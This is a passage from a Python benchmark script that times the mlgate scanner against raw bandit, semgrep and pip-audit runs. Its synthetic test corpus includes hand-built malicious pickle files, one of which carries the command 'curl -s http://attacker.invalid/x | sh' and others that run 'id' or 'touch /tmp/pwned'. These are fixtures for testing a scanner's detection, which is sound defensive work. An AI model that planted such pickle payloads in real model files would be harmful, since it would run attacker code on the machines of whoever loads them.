        return json.dumps(document, indent=1, sort_keys=True) + "\n"

    def _markdown(self, text: str) -> dict[str, Any]:
        return {
            "cell_type": "markdown",
            "id": self._token("0123456789abcdef", 8),
            "metadata": {},
            "source": _source(text),
        }

    def _frame_output(self) -> dict[str, Any]:
        header = "   " + "  ".join(f"{c:>8}" for c in COLUMNS[:5])
        rows = [
            f"{i:<3}" + "  ".join(f"{self.rng.randint(0, 999):>8}" for _ in range(5))
            for i in range(5)
        ]
        return {
            "data": {"text/plain": _source("\n".join([header, *rows]))},
            "execution_count": 0,
            "metadata": {},
            "output_type": "execute_result",
        }

    def _image_output(self) -> dict[str, Any]:
        fake_png = b"\x89PNG\r\n\x1a\n" + self.rng.randbytes(self.rng.randint(2000, 6000))
        return {
            "data": {
                "image/png": base64.b64encode(fake_png).decode("ascii") + "\n",
                "text/plain": ["<Figure size 640x480 with 1 Axes>"],
            },
            "metadata": {},
            "output_type": "display_data",
        }

    # model files: crafted bytes, never loaded

    def _models(self) -> Iterator[tuple[str, bytes]]:
        for number in range(8):
            yield f"{NOUNS[number]}_weights.pkl", self._weights_pickle()
        payloads = (
            ("os", "system", "curl -s http://attacker.invalid/x | sh"),
            ("builtins", "eval", "__import__('os').getcwd()"),
            ("posix", "system", "id"),
            ("subprocess", "getoutput", "uname -a"),
        )
        for number, (module, name, arg) in enumerate(payloads):
            yield f"backdoored_{number}.pkl", _reduce_pickle(module, name, arg)
        for number in range(4):
            inner = (
                _reduce_pickle("os", "system", "touch /tmp/pwned")
                if number == 3
                else self._weights_pickle(ordered=True)
            )
            yield f"{NOUNS[10 + number]}_model.pt", self._torch_zip(f"model_{number}", inner)
        for number in range(2):
            yield f"{NOUNS[14 + number]}_pipeline.joblib", self._weights_pickle()
        yield "embeddings.npy", _npy("<f4", (16, 8), self.rng.randbytes(16 * 8 * 4))
        yield "objects.npy", _npy("|O", (1,), _reduce_pickle("os", "system", "id"))

    def _weights_pickle(self, ordered: bool = False) -> bytes:
        weights = [self.rng.uniform(-1, 1) for _ in range(self.rng.randint(16, 64))]
        return _dict_pickle(
            {"weights": weights, "bias": self.rng.uniform(-1, 1), "name": "linear"}, ordered
        )

    def _torch_zip(self, name: str, data_pkl: bytes) -> bytes:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as zipped:
            for member, data in (
                (f"{name}/data.pkl", data_pkl),
                (f"{name}/version", b"3\n"),
                (f"{name}/data/0", self.rng.randbytes(512)),
            ):
                zipped.writestr(zipfile.ZipInfo(member, date_time=(2025, 1, 1, 0, 0, 0)), data)
        return buffer.getvalue()


def _lines(items: Sequence[str]) -> str:
    return "".join(f"{item}\n" for item in items)


def _source(text: str) -> list[str]:
    """Notebook source: a list of lines, each but the last keeping its newline."""
    lines = text.splitlines(keepends=True)
    return lines or [""]


def _stdlib_first(imports: Sequence[str]) -> list[str]:
    third = ("numpy", "pandas", "torch", "sklearn", "yaml", "requests")

    def key(line: str) -> tuple[bool, str]:
        return (line.startswith("from "), line.split()[1])

    stdlib = sorted((i for i in imports if not any(f" {t}" in i for t in third)), key=key)
    others = sorted((i for i in imports if i not in stdlib), key=key)
    return [*stdlib, *([""] if stdlib and others else []), *others]


# Pickle opcodes (protocol 2), written by hand so that nothing here ever unpickles.
def _pickle_str(value: str) -> bytes:
    data = value.encode("utf-8")
    return b"X" + struct.pack("<I", len(data)) + data


def _pickle_value(value: Any) -> bytes:
    if isinstance(value, float):
        return b"G" + struct.pack(">d", value)
    if isinstance(value, str):
        return _pickle_str(value)
    if isinstance(value, list):
        return b"](" + b"".join(_pickle_value(v) for v in value) + b"e"
    raise TypeError(type(value))


def _dict_pickle(items: Mapping[str, Any], ordered: bool) -> bytes:
    start = b"ccollections\nOrderedDict\n)R" if ordered else b"}"
    body = b"".join(_pickle_str(k) + _pickle_value(v) for k, v in items.items())
    return b"\x80\x02" + start + b"(" + body + b"u."


def _reduce_pickle(module: str, name: str, argument: str) -> bytes:
    """GLOBAL module.name, called with one string argument: what a malicious pickle does."""
    return b"\x80\x02c" + f"{module}\n{name}\n".encode() + _pickle_str(argument) + b"\x85R."


def _npy(descr: str, shape: tuple[int, ...], data: bytes) -> bytes:
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape!r}, }}"
    padding = 64 - (10 + len(header) + 1) % 64
    header += " " * padding + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + data


# --- measuring ----------------------------------------------------------------------------


@dataclass
class RawRun:
    seconds: float | None
    returncode: int | None = None
    note: str | None = None  # why it is n/a, or what went wrong
    cpu: float | None = None  # user + system seconds of the tool's whole process tree


@dataclass
class MlgateRun:
    wall: float
    returncode: int
    startup: float | None = None  # spawn -> mlgate.cli imported (interpreter + imports)
    tool_busy: float | None = None  # wall time during which at least one scanner ran
    overhead: float | None = None  # wall - tool_busy
    rss_mb: float | None = None
    cpu: float | None = None  # user + system seconds: mlgate and every tool it ran
    own_cpu: float | None = None  # user + system seconds of mlgate's own process
    tool_cpu: dict[str, float] = field(default_factory=dict)  # tool -> CPU seconds (its tree)
    gates: dict[str, dict[str, Any]] = field(default_factory=dict)
    calls: list[dict[str, Any]] = field(default_factory=list)
    error: str | None = None


@dataclass
class Repetition:
    raw: dict[str, RawRun]
    cold: MlgateRun
    warm: MlgateRun
    changed: MlgateRun
    load: tuple[float, float]  # 1-minute load average before and after (other work = noise)
    busy: float | None = None  # CPU fraction busy with other work just before the repetition


def raw_commands(env: Env, corpus: Corpus) -> dict[str, list[str] | str]:
    """Each raw tool's command line as a user would type it, or why it is n/a."""
    commands: dict[str, list[str] | str] = {}
    for tool, gate in RAW_TOOLS.items():
        exe = env.tools.get(tool)
        if gate not in env.gates:
            commands[tool] = f"n/a: mlgate has no {gate} gate yet"
        elif exe is None:
            commands[tool] = f"n/a: {tool} not installed"
        elif tool == "pip-audit" and not corpus.requirements:
            commands[tool] = "n/a: no requirements file in the corpus"
        else:
            commands[tool] = [exe, *_raw_arguments(tool, env, corpus)]
    return commands


def _raw_arguments(tool: str, env: Env, corpus: Corpus) -> list[str]:
    if tool == "bandit":  # mlgate skips B101 (assert_used) by default: same tests here
        return ["-f", "json", "-q", "-r", "-s", "B101", "."]
    if tool == "semgrep":  # mlgate's rule pack, the same directory mlgate passes
        config = str(env.rules)
        return [
            "scan",
            "--json",
            "--metrics=off",
            "--disable-version-check",
            "--config",
            config,
            ".",
        ]
    if tool == "pip-audit":  # the options mlgate's online mode uses (pins only, no resolver)
        files = [arg for rel in corpus.requirements for arg in ("-r", rel)]
        return [*files, "--no-deps", "--disable-pip", "--progress-spinner", "off", "-f", "json"]
    return ["scan", "--all-files"]


def run_raw(argv: list[str], cwd: Path, scratch: Path) -> RawRun:
    env = {**base_env(), "SEMGREP_ENABLE_VERSION_CHECK": "0", "SEMGREP_SEND_METRICS": "off"}
    out = scratch / "raw-out.json"
    with out.open("wb") as stdout:
        cpu = children_cpu()
        started = time.monotonic()
        try:
            done = subprocess.run(
                argv,
                cwd=cwd,
                env=env,
                stdin=subprocess.DEVNULL,
                stdout=stdout,
                stderr=subprocess.PIPE,
                timeout=TIMEOUT,
                check=False,
            )
        except subprocess.TimeoutExpired:
            return RawRun(None, None, f"timed out after {TIMEOUT:g}s")
        seconds = time.monotonic() - started
        cpu = children_cpu() - cpu
    note = None
    if done.returncode not in (0, 1):
        note = f"exit {done.returncode}: {_gist(done.stderr.decode('utf-8', 'replace'))}"
    return RawRun(seconds, done.returncode, note, cpu)


def _gist(text: str, limit: int = 200) -> str:
    """The line of a tool's output that says what went wrong (else its last line)."""
    lines = [line.strip() for line in text.splitlines() if line.strip()]
    errors = [line for line in lines if "error" in line.lower()]
    found = errors[0] if errors else (lines[-1] if lines else "")
    return found[:limit]


def children_cpu() -> float:
    """CPU seconds of every child process waited for so far (and of their descendants)."""
    usage = resource.getrusage(resource.RUSAGE_CHILDREN)
    return usage.ru_utime + usage.ru_stime


def run_mlgate(env: Env, corpus: Corpus, cache: Path, scratch: Path) -> MlgateRun:
    out = scratch / "out"
    shutil.rmtree(out, ignore_errors=True)
    stats_file = scratch / "stats.json"
    stats_file.unlink(missing_ok=True)
    argv = [env.python, "-c", CHILD, "run", str(corpus.root), *env.gates, "--quiet"]
    argv += ["--format", "json", "--output", str(out)]
    if env.advisory_db is not None:
        argv += ["--advisory-db", str(env.advisory_db)]
    child_env = {**env.child_env(), "MLGATE_CACHE_DIR": str(cache)}
    child_env["MLGATE_BENCH_STATS"] = str(stats_file)
    cpu = children_cpu()
    started = time.monotonic()
    done = subprocess.run(
        argv,
        cwd=corpus.root,
        env=child_env,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        timeout=TIMEOUT,
        check=False,
    )
    ended = time.monotonic()
    run = MlgateRun(wall=ended - started, returncode=done.returncode, cpu=children_cpu() - cpu)
    stderr = done.stderr.decode("utf-8", "replace").strip()
    if done.returncode not in (0, 1):
        run.error = f"mlgate exit {done.returncode}: {stderr[-300:]}"
    try:
        stats = json.loads(stats_file.read_text(encoding="utf-8"))
    except (OSError, ValueError):
        run.error = run.error or f"no statistics from the child: {stderr[-300:]}"
        return run
    run.startup = stats["t_imported"] - started
    run.rss_mb = stats["maxrss_kb"] / 1024
    run.own_cpu = stats.get("cpu")
    for reaped in stats.get("reaped", []):
        tool = str(reaped["tool"])
        run.tool_cpu[tool] = run.tool_cpu.get(tool, 0.0) + float(reaped["cpu"])
    run.calls = [
        {**c, "start": c["start"] - started, "end": c["end"] - started} for c in stats["calls"]
    ]
    if stats.get("wrapped"):
        scanners = [c for c in run.calls if c["tool"] not in NOT_SCANNERS]
        run.tool_busy = union_length([(c["start"], c["end"]) for c in scanners])
        run.overhead = run.wall - run.tool_busy
    run.gates = _gate_summary(out / "mlgate.json")
    return run


def _gate_summary(report_file: Path) -> dict[str, dict[str, Any]]:
    try:
        report = json.loads(report_file.read_text(encoding="utf-8"))
    except (OSError, ValueError):
        return {}
    gates: dict[str, dict[str, Any]] = {}
    for gate in report.get("gates", []):
        props = gate.get("properties") or {}
        gates[str(gate.get("name"))] = {
            "seconds": gate.get("seconds"),
            "status": gate.get("status"),
            "files_scanned": gate.get("files_scanned"),
            "cached_files": props.get("cached_files"),
            "cached": bool(props.get("cached")),
            "errors": list(gate.get("errors") or [])[:3],
        }
    return gates


def union_length(intervals: Sequence[tuple[float, float]]) -> float:
    """Total length covered by at least one interval."""
    total, end = 0.0, float("-inf")
    for start, stop in sorted(intervals):
        if stop <= end:
            continue
        total += stop - max(start, end)
        end = stop
    return total


@contextlib.contextmanager
def appended_line(path: Path, text: str) -> Iterator[None]:
    """Append a line to a file for the duration of the block, then restore it exactly."""
    original = path.read_bytes()
    sep = b"" if original.endswith(b"\n") or not original else b"\n"
    path.write_bytes(original + sep + text.encode("utf-8") + b"\n")
    try:
        yield
    finally:
        path.write_bytes(original)


def measure(
    env: Env, corpus: Corpus, repeat: int, scratch: Path, settle: float
) -> list[Repetition]:
    """Raw tools and mlgate back to back, `repeat` times; odd repetitions start with the raw
    tools, even ones with mlgate, so that a drift in machine load hits both alike."""
    commands = raw_commands(env, corpus)
    reps: list[Repetition] = []
    for number in range(1, repeat + 1):
        busy = wait_until_idle(settle)
        load_before = os.getloadavg()[0]
        if number % 2:
            raw = run_raw_tools(commands, corpus, scratch)
            cold, warm, changed = run_mlgate_series(env, corpus, scratch, number)
        else:
            cold, warm, changed = run_mlgate_series(env, corpus, scratch, number)
            raw = run_raw_tools(commands, corpus, scratch)
        load = (load_before, os.getloadavg()[0])
        reps.append(Repetition(raw, cold, warm, changed, load, busy))
        shown = ", ".join(f"{t} {_fmt_s(r.seconds)}" for t, r in raw.items())
        log(
            f"{corpus.name} {number}/{repeat}: {shown}; mlgate cold {_fmt_s(cold.wall)}, "
            f"warm {_fmt_s(warm.wall)}, one file changed {_fmt_s(changed.wall)}"
        )
        for run in (cold, warm, changed):
            if run.error:
                log(f"{corpus.name}: {run.error}")
    return reps


def run_raw_tools(
    commands: Mapping[str, list[str] | str], corpus: Corpus, scratch: Path
) -> dict[str, RawRun]:
    raw: dict[str, RawRun] = {}
    for tool, argv in commands.items():
        if isinstance(argv, str):
            raw[tool] = RawRun(None, None, argv)
        else:
            raw[tool] = run_raw(argv, corpus.root, scratch)
    return raw


def run_mlgate_series(
    env: Env, corpus: Corpus, scratch: Path, number: int
) -> tuple[MlgateRun, MlgateRun, MlgateRun]:
    """Cold (empty cache), warm (nothing changed), one file changed (warm cache)."""
    cache = Path(tempfile.mkdtemp(prefix="cache-", dir=scratch))
    try:
        cold = run_mlgate(env, corpus, cache, scratch)
        warm = run_mlgate(env, corpus, cache, scratch)
        line = f"BENCH_TOUCHED = {number}  # appended by bench.py"
        with appended_line(corpus.root / corpus.touch, line):
            changed = run_mlgate(env, corpus, cache, scratch)
    finally:
        shutil.rmtree(cache, ignore_errors=True)
    return cold, warm, changed


def cpu_busy(sample: float = 2.0) -> float | None:
    """The fraction of the machine's CPU time not idle over `sample` seconds (Linux)."""

    def read() -> tuple[int, int] | None:
        try:
            fields = Path("/proc/stat").read_text(encoding="ascii").split("\n", 1)[0].split()
        except OSError:
            return None
        values = [int(v) for v in fields[1:]]
        return sum(values), values[3] + (values[4] if len(values) > 4 else 0)  # idle + iowait

    first = read()
    time.sleep(sample)
    second = read()
    if first is None or second is None or second[0] <= first[0]:
        return None
    return 1.0 - (second[1] - first[1]) / (second[0] - first[0])


def wait_until_idle(limit: float, threshold: float = 0.10) -> float | None:
    """Wait (at most `limit` seconds) until other work leaves the CPUs idle; returns the
    busy fraction last seen. Other processes on a 2-core machine distort every ratio."""
    deadline = time.monotonic() + limit
    busy = cpu_busy()
    while busy is not None and busy > threshold and time.monotonic() < deadline:
        busy = cpu_busy()
    if busy is not None and busy > threshold:
        log(f"the machine is still {100 * busy:.0f}% busy with other work: measuring anyway")
    return busy


# --- results ------------------------------------------------------------------------------


def _median(values: Sequence[float | None]) -> float | None:
    known = [v for v in values if v is not None]
    return statistics.median(known) if known else None


def _ratio(top: float | None, bottom: float | None) -> float | None:
    return None if top is None or not bottom else top / bottom


@dataclass
class CorpusResult:
    corpus: Corpus
    reps: list[Repetition]
    metrics: dict[str, float | None] = field(default_factory=dict)
    slowest: str | None = None
    in_sum: list[str] = field(default_factory=list)

    def compute(self) -> None:
        reps, m = self.reps, self.metrics
        tools = list(RAW_TOOLS)
        self.in_sum = [t for t in tools if any(r.raw[t].seconds is not None for r in reps)]
        for tool in tools:
            m[f"raw_{tool}"] = _median([r.raw[tool].seconds for r in reps])
            m[f"raw_cpu_{tool}"] = _median([r.raw[tool].cpu for r in reps])
            m[f"cold_cpu_{tool}"] = _median([r.cold.tool_cpu.get(tool) for r in reps])
        sums = [_sum([r.raw[t].seconds for t in self.in_sum]) for r in reps]
        slowest = [_max([r.raw[t].seconds for t in self.in_sum]) for r in reps]
        cpus = [_sum([r.raw[t].cpu for t in self.in_sum]) for r in reps]
        cores = os.cpu_count() or 1
        # The fastest any scheduler could run the same work here: never below the slowest
        # tool, never below the CPU time spread over every core.
        floors = [
            _max([w, None if c is None else c / cores]) for w, c in zip(slowest, cpus, strict=True)
        ]
        m["raw_sum"], m["raw_slowest"] = _median(sums), _median(slowest)
        m["raw_cpu"], m["raw_floor"] = _median(cpus), _median(floors)
        medians = {t: m[f"raw_{t}"] for t in self.in_sum}
        known = {t: v for t, v in medians.items() if v is not None}
        self.slowest = max(known, key=lambda t: known[t]) if known else None
        for kind in ("cold", "warm", "changed"):
            runs: list[MlgateRun] = [getattr(r, kind) for r in reps]
            m[kind] = _median([run.wall for run in runs])
            m[f"{kind}_overhead"] = _median([run.overhead for run in runs])
            m[f"{kind}_startup"] = _median([run.startup for run in runs])
            m[f"{kind}_rss"] = _max([run.rss_mb for run in runs])
            m[f"{kind}_cpu"] = _median([run.cpu for run in runs])
            m[f"{kind}_own_cpu"] = _median([run.own_cpu for run in runs])
        m["overhead"] = m["cold_overhead"]
        m["rss"] = _max([m["cold_rss"], m["warm_rss"], m["changed_rss"]])
        cold = [r.cold.wall for r in reps]
        m["cold_over_sum"] = _median([_ratio(c, s) for c, s in zip(cold, sums, strict=True)])
        m["floor_over_sum"] = _median([_ratio(f, s) for f, s in zip(floors, sums, strict=True)])
        m["floor_over_slowest"] = _median(
            [_ratio(f, s) for f, s in zip(floors, slowest, strict=True)]
        )
        m["cold_over_slowest"] = _median([_ratio(c, s) for c, s in zip(cold, slowest, strict=True)])
        m["warm_over_cold"] = _median([_ratio(r.warm.wall, r.cold.wall) for r in reps])
        m["changed_over_cold"] = _median([_ratio(r.changed.wall, r.cold.wall) for r in reps])
        for gate in BENCH_GATES:
            m[f"gate_{gate}"] = _median([r.cold.gates.get(gate, {}).get("seconds") for r in reps])

    def verdicts(self) -> dict[str, bool | None]:
        out: dict[str, bool | None] = {}
        for goal in GOALS:
            value = self.metrics.get(goal.key)
            out[goal.key] = None if value is None else goal.met(value)
        return out

    def problems(self) -> list[str]:
        found: list[str] = []
        for rep in self.reps:
            for tool, raw in rep.raw.items():
                if raw.note and not raw.note.startswith("n/a"):
                    found.append(f"{tool}: {raw.note}")
            for run in (rep.cold, rep.warm, rep.changed):
                if run.error:
                    found.append(run.error)
                for gate, info in run.gates.items():
                    found += [f"{gate}: {str(e)[:200]}" for e in info.get("errors", [])]
        return list(dict.fromkeys(found))


def _sum(values: Sequence[float | None]) -> float | None:
    known = [v for v in values if v is not None]
    return sum(known) if known else None


def _max(values: Sequence[float | None]) -> float | None:
    known = [v for v in values if v is not None]
    return max(known) if known else None


def _fmt_s(value: float | None) -> str:
    return "n/a" if value is None else f"{value:.2f} s"


def _fmt_x(value: float | None) -> str:
    return "n/a" if value is None else f"{value:.2f}"


def _fmt_pct(value: float | None) -> str:
    return "n/a" if value is None else f"{100 * value:.1f}%"


def _fmt_mb(value: float | None) -> str:
    return "n/a" if value is None else f"{value:.0f} MB"


def _verdict(ok: bool | None) -> str:
    return "" if ok is None else (" PASS" if ok else " MISS")


Row = tuple[str, str, Callable[[CorpusResult], str]]


def _metric(key: str, fmt: Callable[[float | None], str]) -> Callable[[CorpusResult], str]:
    def cell(result: CorpusResult) -> str:
        text = fmt(result.metrics.get(key))
        return text + _verdict(result.verdicts().get(key))

    return cell


def _raw_cell(tool: str) -> Callable[[CorpusResult], str]:
    def cell(result: CorpusResult) -> str:
        if tool not in result.in_sum:
            note = result.reps[0].raw[tool].note if result.reps else None
            return "n/a" + (f" ({note.split(': ', 1)[1]})" if note and ": " in note else "")
        return _fmt_s(result.metrics.get(f"raw_{tool}"))

    return cell


def _slowest_cell(result: CorpusResult) -> str:
    text = _fmt_s(result.metrics.get("raw_slowest"))
    return f"{text} ({result.slowest})" if result.slowest else text


def _tool_cpu_cell(tool: str) -> Callable[[CorpusResult], str]:
    def cell(result: CorpusResult) -> str:
        inside = result.metrics.get(f"cold_cpu_{tool}")
        alone = result.metrics.get(f"raw_cpu_{tool}")
        if alone is None:
            return "n/a"
        return f"{'not run' if inside is None else _fmt_s(inside)} vs {_fmt_s(alone)}"

    return cell


def _gate_cell(gate: str) -> Callable[[CorpusResult], str]:
    def cell(result: CorpusResult) -> str:
        return _fmt_s(result.metrics.get(f"gate_{gate}"))

    return cell


def rows(env: Env) -> list[Row]:
    cores = os.cpu_count()
    table: list[Row] = [(f"raw {tool}", "", _raw_cell(tool)) for tool in RAW_TOOLS]
    table += [
        ("raw tools: sum", "", _metric("raw_sum", _fmt_s)),
        ("raw tools: slowest", "", _slowest_cell),
        ("mlgate cold (empty cache)", "", _metric("cold", _fmt_s)),
    ]
    table += [(f"  {g} gate", "", _gate_cell(g)) for g in env.gates]
    table += [
        ("cold / sum of raw tools", "<= 0.75", _metric("cold_over_sum", _fmt_x)),
        ("  best possible here: floor / sum", "", _metric("floor_over_sum", _fmt_x)),
        ("cold / slowest raw tool", "<= 1.15", _metric("cold_over_slowest", _fmt_x)),
        ("  best possible here: floor / slowest", "", _metric("floor_over_slowest", _fmt_x)),
        ("warm re-run, nothing changed", "<= 0.5 s", _metric("warm", _fmt_s)),
        ("warm / cold", "<= 5%", _metric("warm_over_cold", _fmt_pct)),
        ("one .py changed, warm cache", "", _metric("changed", _fmt_s)),
        ("one changed / cold", "<= 10%", _metric("changed_over_cold", _fmt_pct)),
        ("mlgate overhead, cold run", "< 0.3 s", _metric("overhead", _fmt_s)),
        ("  of which interpreter start + imports", "", _metric("cold_startup", _fmt_s)),
        ("mlgate overhead, warm run", "", _metric("warm_overhead", _fmt_s)),
        ("peak RSS of mlgate's own process", "(report)", _metric("rss", _fmt_mb)),
        ("CPU (user+sys): raw tools", "", _metric("raw_cpu", _fmt_s)),
        ("CPU: mlgate cold, tools included", "", _metric("cold_cpu", _fmt_s)),
        ("  mlgate's own process", "", _metric("cold_own_cpu", _fmt_s)),
    ]
    table += [
        (f"  {tool}: in mlgate vs raw", "", _tool_cpu_cell(tool))
        for tool in RAW_TOOLS
        if RAW_TOOLS[tool] in env.gates
    ]
    table.append(
        (f"floor here: max(slowest, raw CPU / {cores} cores)", "", _metric("raw_floor", _fmt_s))
    )
    return table


def corpus_header(result: CorpusResult) -> str:
    c = result.corpus.counts
    text = (
        f"{result.corpus.label}: {c['files']} files, {c['python']} .py "
        f"({c['python_lines']:,} lines), {c['notebooks']} notebooks, {c['models']} model files, "
        f"{c['mb']} MB"
    )
    loads = [value for rep in result.reps for value in rep.load]
    if loads:
        text += f"; load average {min(loads):.1f}-{max(loads):.1f} during the runs"
    busy = [rep.busy for rep in result.reps if rep.busy is not None]
    if busy:
        text += f" (CPUs {100 * max(busy):.0f}% busy with other work before a run, at most)"
    return text


def markdown(env: Env, results: list[CorpusResult], repeat: int, quick: bool) -> str:
    lines = [
        f"mlgate {env.mlgate_version} ({env.source}), {dt.date.today().isoformat()}, "
        f"{os.cpu_count()} cores, Python {platform.python_version()}, "
        f"median of {repeat} run(s){' (--quick)' if quick else ''}; gates: {', '.join(env.gates)}"
        + (f" (not benchmarked: {', '.join(env.other_gates)})" if env.other_gates else ""),
        "tools: " + ", ".join(f"{t} {env.versions.get(t) or 'n/a'}" for t in RAW_TOOLS),
        "",
        *[f"- {corpus_header(r)}" for r in results],
        "",
        "| metric | goal | " + " | ".join(r.corpus.label for r in results) + " |",
        "|---|---|" + "---|" * len(results),
    ]
    for label, goal, cell in rows(env):
        lines.append(f"| {label} | {goal} | " + " | ".join(cell(r) for r in results) + " |")
    problems = [f"{r.corpus.name}: {p}" for r in results for p in r.problems()]
    if problems:
        lines += ["", "Problems seen:", *[f"- {p}" for p in problems[:20]]]
    return "\n".join(lines)


def to_json(env: Env, results: list[CorpusResult], repeat: int, quick: bool) -> dict[str, Any]:
    def rep_json(rep: Repetition) -> dict[str, Any]:
        return {
            "load": list(rep.load),
            "busy_before": rep.busy,
            "raw": {t: vars(r) for t, r in rep.raw.items()},
            **{k: vars(getattr(rep, k)) for k in ("cold", "warm", "changed")},
        }

    return {
        "date": dt.datetime.now(dt.timezone.utc).isoformat(timespec="seconds"),
        "machine": {
            "cpus": os.cpu_count(),
            "platform": platform.platform(),
            "python": platform.python_version(),
        },
        "mlgate": env.mlgate_version,
        "source": env.source,
        "gates": list(env.gates),
        "tools": dict(env.versions),
        "repeat": repeat,
        "quick": quick,
        "goals": {g.key: {"limit": g.limit, "text": g.text} for g in GOALS},
        "corpora": {
            r.corpus.name: {
                "label": r.corpus.label,
                "counts": r.corpus.counts,
                "changed_file": r.corpus.touch,
                "raw_tools_in_sum": r.in_sum,
                "slowest_raw_tool": r.slowest,
                "metrics": r.metrics,
                "verdicts": r.verdicts(),
                "problems": r.problems(),
                "runs": [rep_json(rep) for rep in r.reps],
            }
            for r in results
        },
    }


# --- main ---------------------------------------------------------------------------------


def parse_args(argv: Sequence[str] | None) -> argparse.Namespace:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0] if __doc__ else None)
    parser.add_argument(
        "--repeat", type=int, default=3, metavar="N", help="runs per measurement (median)"
    )
    parser.add_argument(
        "--quick", action="store_true", help="a synthetic corpus 1/10 the size (smoke runs)"
    )
    parser.add_argument("--corpus", choices=(*CORPORA, "all"), default="all")
    parser.add_argument("--json", type=Path, metavar="OUT", help="write every number here")
    parser.add_argument(
        "--sdist",
        default=DEFAULT_SDIST,
        metavar="NAME==VERSION",
        help=f"the real library for the sdist corpus (default: {DEFAULT_SDIST})",
    )
    parser.add_argument(
        "--advisory-db",
        type=Path,
        default=None,
        metavar="DIR",
        help="OSV database for the deps gate (default: $MLGATE_ADVISORY_DB, ../shared/advisory-db)",
    )
    parser.add_argument(
        "--work",
        type=Path,
        default=Path(os.environ.get("XDG_CACHE_HOME", Path.home() / ".cache")) / "mlgate-bench",
        metavar="DIR",
        help="keeps the downloaded sdist between runs (default: ~/.cache/mlgate-bench)",
    )
    parser.add_argument(
        "--settle",
        type=float,
        default=120.0,
        metavar="SECONDS",
        help="before each repetition, wait up to this long for other work to leave the CPUs "
        "idle (default: 120; 0: do not wait)",
    )
    parser.add_argument(
        "--snapshot",
        action="store_true",
        help="measure a frozen copy of this checkout's src/ and policies/ (PYTHONPATH), so "
        "that edits made while the benchmark runs do not change what it measures",
    )
    parser.add_argument("--keep", action="store_true", help="keep the generated corpora")
    args = parser.parse_args(argv)
    if args.repeat < 1:
        parser.error("--repeat must be at least 1")
    return args


def build(name: str, tmp: Path, args: argparse.Namespace) -> Corpus:
    if name == "examples":
        return build_examples(tmp)
    if name == "synthetic":
        return build_synthetic(tmp, args.quick)
    return build_sdist(tmp, args.work, args.sdist)


def main(argv: Sequence[str] | None = None) -> int:
    args = parse_args(argv)
    tmp = Path(tempfile.mkdtemp(prefix="mlgate-bench-"))
    try:
        return run_benchmark(args, tmp)
    finally:
        if args.keep:
            log(f"corpora kept in {tmp}")
        else:
            shutil.rmtree(tmp, ignore_errors=True)


def run_benchmark(args: argparse.Namespace, tmp: Path) -> int:
    db = args.advisory_db.resolve() if args.advisory_db else default_advisory_db()
    env = discover(db, snapshot_source(tmp) if args.snapshot else None)
    if not env.gates:
        log("mlgate has none of the benchmarked gates: nothing to measure")
        return 2
    if db is None:
        log("no offline advisory database: the deps gate will ask pip-audit online")
    names = CORPORA if args.corpus == "all" else (args.corpus,)
    results: list[CorpusResult] = []
    for name in names:
        log(f"preparing the {name} corpus")
        try:
            corpus = build(name, tmp, args)
        except (RuntimeError, OSError, subprocess.SubprocessError) as exc:
            log(f"{name}: corpus n/a: {exc}")
            continue
        log(corpus_header(CorpusResult(corpus, [])))
        scratch = tmp / f"scratch-{name}"
        scratch.mkdir()
        result = CorpusResult(corpus, measure(env, corpus, args.repeat, scratch, args.settle))
        result.compute()
        results.append(result)
    if not results:
        log("no corpus could be prepared")
        return 2
    print(markdown(env, results, args.repeat, args.quick))
    if args.json:
        args.json.write_text(
            json.dumps(to_json(env, results, args.repeat, args.quick), indent=2) + "\n",
            encoding="utf-8",
        )
    return 0


if __name__ == "__main__":
    sys.exit(main())
